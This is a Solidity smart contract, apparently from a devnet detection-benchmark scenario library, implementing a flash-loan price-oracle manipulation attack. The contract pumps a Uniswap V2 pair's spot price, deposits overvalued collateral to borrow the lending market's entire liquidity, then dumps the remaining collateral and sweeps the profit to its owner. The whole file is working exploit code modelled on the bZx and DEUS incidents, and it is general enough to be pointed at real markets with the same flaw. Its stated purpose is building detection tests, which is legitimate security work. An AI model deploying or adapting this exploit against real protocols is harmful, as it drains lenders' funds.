// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S SCENARIO LIBRARY ONLY (devnet detection benchmark). It
//  exploits the deliberately vulnerable devnet VulnerableSpotPriceLendingMarket. Do not point
//  it at anything else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IUniswapV2Pair} from "../../devnet/interfaces/IUniswapV2Pair.sol";
import {V2Math} from "../../devnet/libraries/V2Math.sol";
import {VulnerableSpotPriceLendingMarket} from "../../devnet/VulnerableSpotPriceLendingMarket.sol";
import {FlashFunded} from "../common/FlashFunded.sol";
import {SwapPump} from "./SwapPump.sol";

/// @title SpotOracleAttacker
/// @notice Pattern 1 (bZx #2 / DEUS) against the devnet VulnerableSpotPriceLendingMarket, fundable
/// by any FlashFunded source (the devnet SpotPriceAttacker only knows ERC-3156 and V2 flash
/// swaps), with the swaps done by a fresh SwapPump:
///   1. the pump buys collateral with `pumpAmount` of the debt token in the market's price pair
///      and hands it over (spot price pumped);
///   2. deposit just enough of it to borrow the market's whole liquidity at the pumped price;
///   3. hand the rest back to the pump, which sells it into the pair, proceeds to this contract.
/// Capital needed: pumpAmount. Flash swaps must come from another pair than the price pair.
contract SpotOracleAttacker is FlashFunded {
    using SafeERC20 for IERC20;

    /// @param market Target market.
    /// @param pumpAmount Debt tokens swapped into the price pair.
    struct Params {
        VulnerableSpotPriceLendingMarket market;
        uint256 pumpAmount;
    }

    /// @notice Runs the exploit with `funding` (token = the market's debt token).
    /// @return profit Debt tokens gained (sent to the owner).
    function execute(Funding calldata funding, Params calldata p) external onlyOwner returns (uint256 profit) {
        profit = _fund(funding, abi.encode(p));
        _sweep(funding.token);
    }

    function _exploit(uint256, bytes memory data) internal override {
        Params memory p = abi.decode(data, (Params));
        VulnerableSpotPriceLendingMarket market = p.market;
        IUniswapV2Pair pair = market.pricePair();
        IERC20 debt = market.debtToken();
        IERC20 collateral = market.collateralToken();

        SwapPump pump = new SwapPump();
        debt.safeTransfer(address(pump), p.pumpAmount);
        uint256 bought = pump.swapV2(pair, address(debt), address(this));

        // Deposit sized so that value * ltv covers the whole liquidity at the pumped spot price.
        uint256 target = market.liquidity();
        (uint256 reserveDebt, uint256 reserveCollateral) = V2Math.reservesFor(pair, address(debt));
        uint256 valueNeeded = Math.mulDiv(target, 10_000, market.ltvBps(), Math.Rounding.Ceil);
        uint256 toDeposit = Math.min(Math.mulDiv(valueNeeded, reserveCollateral, reserveDebt, Math.Rounding.Ceil), bought);
        collateral.forceApprove(address(market), toDeposit);
        market.deposit(toDeposit);
        market.borrow(Math.min(target, market.maxBorrow(address(this))));

        collateral.safeTransfer(address(pump), bought - toDeposit);
        pump.swapV2(pair, address(collateral), address(this));
    }
}
